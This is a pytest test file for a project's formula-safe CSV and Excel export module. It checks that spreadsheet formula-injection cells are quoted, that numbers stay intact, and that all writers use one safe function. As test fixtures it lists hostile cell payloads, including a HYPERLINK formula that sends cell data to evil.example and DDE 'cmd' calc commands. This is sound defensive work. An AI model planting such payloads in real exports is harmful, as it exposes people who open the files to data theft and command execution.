"""Formula-safe exports: hostile cells are neutralised, numbers stay numbers, bytes otherwise unchanged."""

from __future__ import annotations

import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from analysis.present import exports
from analysis.present.exports import formula_cells, is_formula_text, neutralise_formulas, write_csv

#: Formula payloads as they arrive in review labels, action logs and free text (OWASP's examples and friends).
HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\0=1",
    "＝1+1",  # full-width equals sign
    "-",  # a lone dash is neutralised too (OWASP: every leading trigger)
    "+44 20 7946 0000",  # a phone number Excel would turn into #NULL!
    "-5+1",
    "-A1",
    "-1.2 to 4.0",  # an interval written as text starting with a minus: quoted like any other
]
#: Text that starts with a trigger character but is exactly a number: read as that number, left alone.
PLAIN_NUMBERS = ["-5", "+3", "-0.25", "-1.5e-05", "-inf", "-12."]
#: Ordinary text, including look-alikes that are not formulas.
SAFE_TEXT = ["Brent", "Staff were lovely", "'=already quoted", " =leading space", "Café – “quoted”", "5-7 people",
             "A&E", "", "1 = yes"]


def test_formula_text_rule():
    assert all(is_formula_text(v) for v in HOSTILE_CELLS)
    assert not any(is_formula_text(v) for v in PLAIN_NUMBERS + SAFE_TEXT)
    assert not any(is_formula_text(v) for v in (-5, -0.5, None, np.nan, pd.NA, b"=1"))


def test_neutralise_quotes_text_cells_headers_and_categories_only():
    frame = pd.DataFrame({
        "label": HOSTILE_CELLS,
        "people": np.arange(-6, len(HOSTILE_CELLS) - 6),  # negative numbers in a numeric column
        "change": np.linspace(-3.5, 2.0, len(HOSTILE_CELLS)),
        "status": pd.Categorical((["=bad", "Done"] * len(HOSTILE_CELLS))[: len(HOSTILE_CELLS)]),
        "=HEADER()": ["x"] * len(HOSTILE_CELLS),
        "mixed": [*HOSTILE_CELLS[:-1], -7],  # object column with a number in it
    })
    before = frame.copy()
    out = neutralise_formulas(frame)
    pd.testing.assert_frame_equal(frame, before)  # pure: the input is untouched
    assert out["label"].tolist() == ["'" + v for v in HOSTILE_CELLS]
    assert out["mixed"].tolist()[-1] == -7
    assert out["mixed"].tolist()[0] == "'" + HOSTILE_CELLS[0]
    pd.testing.assert_series_equal(out["people"], frame["people"])
    pd.testing.assert_series_equal(out["change"], frame["change"])
    assert out["label"].dtype == frame["label"].dtype
    assert list(out["status"].cat.categories) == ["'=bad", "Done"] and isinstance(out["status"].dtype, pd.CategoricalDtype)
    assert list(out.columns) == ["label", "people", "change", "status", "'=HEADER()", "mixed"]


def test_plain_numbers_and_safe_text_are_left_alone():
    frame = pd.DataFrame({"text": PLAIN_NUMBERS + SAFE_TEXT[: len(PLAIN_NUMBERS)]})
    pd.testing.assert_frame_equal(neutralise_formulas(frame), frame)


def test_missing_values_survive_in_every_text_dtype():
    for dtype in ("object", "string", "str"):
        frame = pd.DataFrame({"t": pd.Series(["=1", None, "ok"], dtype=dtype)})
        out = neutralise_formulas(frame)
        assert out["t"].iloc[0] == "'=1" and pd.isna(out["t"].iloc[1]) and out["t"].iloc[2] == "ok", dtype
        assert out["t"].dtype == frame["t"].dtype, dtype


@pytest.mark.parametrize("kwargs", [
    {"index": False},
    {"index": False, "encoding": "utf-8-sig", "lineterminator": "\n"},
    {"index": False, "float_format": "%.4f", "lineterminator": "\n", "encoding": "utf-8"},
])
def test_write_csv_bytes_equal_pandas_when_nothing_needs_quoting(tmp_path, kwargs):
    """A realistic published table (accents, negatives, suppressed counts, intervals) is written byte for byte."""
    table = pd.DataFrame({
        "theme": ["Feedback – “you said, we did”", "Travel costs", "Café access", "-"][:3],
        "people": pd.array([40, None, 12], dtype="Int64"),
        "pct": [21.5, np.nan, -3.25],
        "interval": ["16.0 to 27.9", "–", "0.5 to 4.0"],
        "ratio": [1.0e-05, -2.5, 0.0],
    })
    ours, theirs = tmp_path / "ours.csv", tmp_path / "theirs.csv"
    assert write_csv(table, ours, **kwargs) == ours
    table.to_csv(theirs, **kwargs)
    assert ours.read_bytes() == theirs.read_bytes()


def test_write_csv_neutralises_and_the_reader_proves_it(tmp_path):
    frame = pd.DataFrame({"comment": HOSTILE_CELLS, "n": range(len(HOSTILE_CELLS))})
    unsafe = tmp_path / "unsafe.csv"
    frame.to_csv(unsafe, index=False)
    found = formula_cells(unsafe)
    # Every payload is caught (the tab/CR/NUL ones too), with the row and column a spreadsheet shows.
    assert len(found) == len(HOSTILE_CELLS)
    assert found[0].startswith("unsafe.csv:2:1: ")
    safe = tmp_path / "safe.csv"
    write_csv(frame, safe, encoding="utf-8-sig")
    assert formula_cells(safe) == []
    back = pd.read_csv(safe, encoding="utf-8-sig", keep_default_na=False)
    # The text itself is kept, quoted (a carriage return comes back as a line feed: see the next test).
    assert back["comment"].tolist() == ["'" + v.replace("\r", "\n") for v in HOSTILE_CELLS]
    assert back["n"].tolist() == list(range(len(HOSTILE_CELLS)))  # numbers read back as numbers


def test_a_carriage_return_inside_text_cannot_start_a_formula_row(tmp_path):
    """pandas leaves a field with a bare CR unquoted; a spreadsheet would start a new row at it."""
    frame = pd.DataFrame({"comment": ["Parking was fine\r=cmd|' /C calc'!A0", "ok\r\nnext line"], "n": [1, 2]})
    unsafe = tmp_path / "unsafe.csv"
    frame.to_csv(unsafe, index=False)
    assert len(formula_cells(unsafe)) == 1
    safe = tmp_path / "safe.csv"
    write_csv(frame, safe)
    assert formula_cells(safe) == []
    assert safe.read_bytes() == b'comment,n\n"Parking was fine\n=cmd|\' /C calc\'!A0",1\n"ok\nnext line",2\n'


def test_formula_cells_reads_workbooks(tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "Actions"
    sheet.append(["action", "people"])
    sheet.append(["=HYPERLINK(\"http://evil\",\"x\")", 12])  # openpyxl stores this as a formula
    sheet.append(["fine", -3])
    sheet["C3"] = "@SUM(1)"
    unsafe = tmp_path / "unsafe.xlsx"
    book.save(unsafe)
    found = formula_cells(unsafe)
    assert [re.sub(r": .*", "", f) for f in found] == ["unsafe.xlsx:Actions!A2", "unsafe.xlsx:Actions!C3"]

    safe_book = Workbook()
    safe_book.active.append(["'=quoted text", -3, "-4"])
    safe = tmp_path / "safe.xlsx"
    safe_book.save(safe)
    assert formula_cells(safe) == []


# --------------------------------------------------------------------------- the call sites
def test_published_tables_review_sheets_and_deidentify_output_are_formula_safe(tmp_path):
    from analysis.cli.main import main
    from analysis.reach.representation import write_table
    from analysis.themes import review

    path = write_table(pd.DataFrame({"action": ["=cmd|' /C calc'!A0", "Parking"], "people": [12.0, 30.0]}),
                       tmp_path, "you_said_we_did")
    assert formula_cells(path) == []
    assert path.read_text(encoding="utf-8") == "action,people\n'=cmd|' /C calc'!A0,12\nParking,30\n"

    sheet = pd.DataFrame({c: ["@SUM(1)"] for c in review.SHEET_COLUMNS})
    folder = review.write_review_folder(sheet, None, tmp_path / "review")
    assert formula_cells(folder / review.SHEET_NAME) == []

    raw = tmp_path / "raw.csv"
    raw.write_text('id,comment,score\n1,"=HYPERLINK(""http://evil"",""x"")",-5\n2,Lovely staff,+3\n', encoding="utf-8")
    out = tmp_path / "out.csv"
    assert main(["deidentify", str(raw), "--text-column", "comment", "--out", str(out)]) == 0
    assert formula_cells(out) == []
    assert out.read_text(encoding="utf-8").splitlines()[1:] == ["1,\"'=HYPERLINK(\"\"[URL]\"\",\"\"x\"\")\",-5",
                                                                "2,Lovely staff,+3"]


def test_every_csv_writer_in_the_project_goes_through_the_one_writer():
    """No ``to_csv``/``to_excel``/``ExcelWriter`` left in the runtime code or the notebooks."""
    from analysis.core import paths

    offenders = []
    sources = [*sorted((paths.REPO_ROOT / "src" / "analysis").rglob("*.py")),
               *sorted((paths.REPO_ROOT / "notebooks").glob("*.ipynb"))]
    assert len(sources) > 20
    for source in sources:
        if source == Path(exports.__file__):
            continue
        for number, line in enumerate(source.read_text(encoding="utf-8").splitlines(), start=1):
            if re.search(r"\.to_csv\(|\.to_excel\(|ExcelWriter\(|csv\.writer\(|csv\.DictWriter\(", line):
                offenders.append(f"{source.relative_to(paths.REPO_ROOT)}:{number}: {line.strip()}")
    assert offenders == []
